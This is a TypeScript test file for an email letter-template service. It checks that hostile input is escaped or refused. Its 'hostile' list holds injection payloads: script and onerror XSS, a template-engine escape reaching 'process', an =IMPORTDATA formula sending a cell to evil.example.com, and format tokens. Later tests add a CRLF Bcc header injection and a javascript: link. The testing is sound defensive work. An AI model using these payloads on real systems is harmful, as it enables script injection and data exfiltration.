import { join } from 'node:path'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import type { Facts, Letter } from '../../../functions/pages/letters/about.ts'
import { approved } from '../../../functions/pages/letters/approved.ts'
import { chair } from '../../../functions/pages/letters/chair.ts'
import { declined, moneyBack } from '../../../functions/pages/letters/declined.ts'
import { moreInformation, wait } from '../../../functions/pages/letters/not-yet.ts'
import { officeTold } from '../../../functions/pages/letters/office-told.ts'
import { received } from '../../../functions/pages/letters/received.ts'
import { takePart } from '../../../functions/pages/letters/take-part.ts'
import { unreadable } from '../../../functions/pages/letters/unreadable.ts'
import { letterTemplates } from '../../../functions/services/letter-templates.ts'
import { letterNamed, letters } from './sample.ts'
import { about, byVotes, priya } from './who-and-what.ts'

const { write } = letterTemplates({ folder: join(import.meta.dirname, '../../../templates') })

// biome-ignore-start lint/suspicious/noTemplateCurlyInString: that is the attack.
const hostile = [
  '<script>alert(1)</script>',
  '</td></table><img src=x onerror=alert(1)>',
  '{{constructor.constructor("return process")()}}',
  '{{{title}}} {{> button}} {{#if a}}',
  '=IMPORTDATA("https://evil.example.com/?"&B2)',
  '" onmouseover="alert(1)',
  '&lt;b&gt; &amp; <br>',
  '%s%n $& $1 ${7*7}',
  '<p class="small">',
]
// biome-ignore-end lint/suspicious/noTemplateCurlyInString: that was the attack.

test.for(hostile)('%s in an answer is text in every letter, and changes nothing around it', (text) => {
  const plain = lettersWith('Reading day').map(written)

  const strange = lettersWith(text).map(written)

  expect(strange.map(({ html }) => tagsOf(html))).toEqual(plain.map(({ html }) => tagsOf(html)))
  expect(strange.map(({ text: words }) => words.includes(text))).toEqual(strange.map(() => true))
})

test('whatever people write, a letter has the same tags and no gap', () => {
  const plain = lettersWith('Reading day').map((letter) => tagsOf(written(letter).html))

  fc.assert(
    fc.property(oneLineOfText, (text) => {
      const strange = lettersWith(text).map(written)

      expect(strange.map(({ html }) => tagsOf(html))).toEqual(plain)
      for (const { subject, html } of strange) {
        expect(subject).not.toMatch(/[\r\n]/)
        expect(html.replaceAll('&#x3D;', '=')).not.toMatch(/\0|[\u202a-\u202e]/)
      }
    }),
    { numRuns: 300 },
  )
})

test.for(Object.keys(letters))('the letter “%s” says nothing that was left unfilled', (name) => {
  const { subject, html, text } = written(letterNamed(name))

  expect(`${subject}${html}${text}`).not.toMatch(/\{\{|undefined|null|NaN|\[object|false|“”|&amp;amp;/)
  expect(text).not.toMatch(/<[a-z/]|&[a-z#][a-z0-9]*;/i)
})

test.for(Object.keys(letters))(
  'the letter “%s” is not written when a fact that it needs is missing',
  (name) => {
    const { kind, facts } = letterNamed(name)
    const whole = write(kind, facts)

    const withoutOne = Object.keys(facts).map((left) => outcome(kind, without(facts, left)))

    expect(withoutOne.filter((one) => one !== 'refused')).toEqual(
      withoutOne.filter((one) => one !== 'refused').map(() => whole.html),
    )
    expect(outcome(kind, without(facts, 'firstName'))).toBe('refused')
  },
)

test('a line break in a title cannot add a line to the head of a letter', () => {
  const [letter] = lettersWith('Leadership\r\nBcc: x@example.org')

  expect(written(letter as Letter).subject).toContain('Leadership Bcc: x@example.org')
})

test('an empty fact and a link that is no web address are refused', () => {
  const { kind, facts } = letterNamed('approved')

  expect(() => write(kind, { ...facts, title: ' \u200b ' })).toThrow(/title/)
  expect(() => write(kind, { ...facts, cancelAddress: 'javascript:alert(1)' })).toThrow(/cancelAddress/)
})

const lettersWith = (text: string): readonly Letter[] => {
  const ours = about(priya, { title: text, help: text, difference: text })
  const decision = { ...byVotes, seen: { ...byVotes.seen, words: text.replace(/[\r\n]+/g, ' ') } }
  return [
    received(ours),
    approved({ ...ours, decision }),
    declined({ ...ours, decision }),
    moneyBack({ ...ours, decision }),
    wait({ ...ours, deferred: { kind: 'wait', until: '2027-01-11', words: decision.seen.words } }),
    moreInformation({ ...ours, deferred: { kind: 'more information', words: decision.seen.words } }),
    chair({ ...ours, decision }),
    officeTold(ours),
    unreadable({
      ...ours,
      of: 'request',
      title: text,
      allFilled: true,
      problems: [{ where: 'price', label: text, typed: text, say: text }],
    }),
    takePart({ ...ours, request: { ...ours.request, asked: { ...ours.request.asked, adjustments: text } } }),
  ]
}

const written = ({ kind, facts }: Letter) => write(kind, facts)

/** Everything but the text between tags. */
const tagsOf = (html: string): string => html.replace(/>[^<]*(?=<)/g, '>')

const without = (facts: Facts, name: string): Facts =>
  Object.fromEntries(Object.entries(facts).filter(([one]) => one !== name))

const outcome = (kind: string, facts: Facts): string => {
  try {
    return write(kind, facts).html
  } catch {
    return 'refused'
  }
}

/** Text of any characters that shows something on one line. */
const oneLineOfText = fc
  .string({ unit: 'binary', minLength: 1, maxLength: 60 })
  .filter((text) => !/[\r\n\u2028\u2029]/.test(text) && /[\p{L}\p{N}\p{P}]/u.test(text))
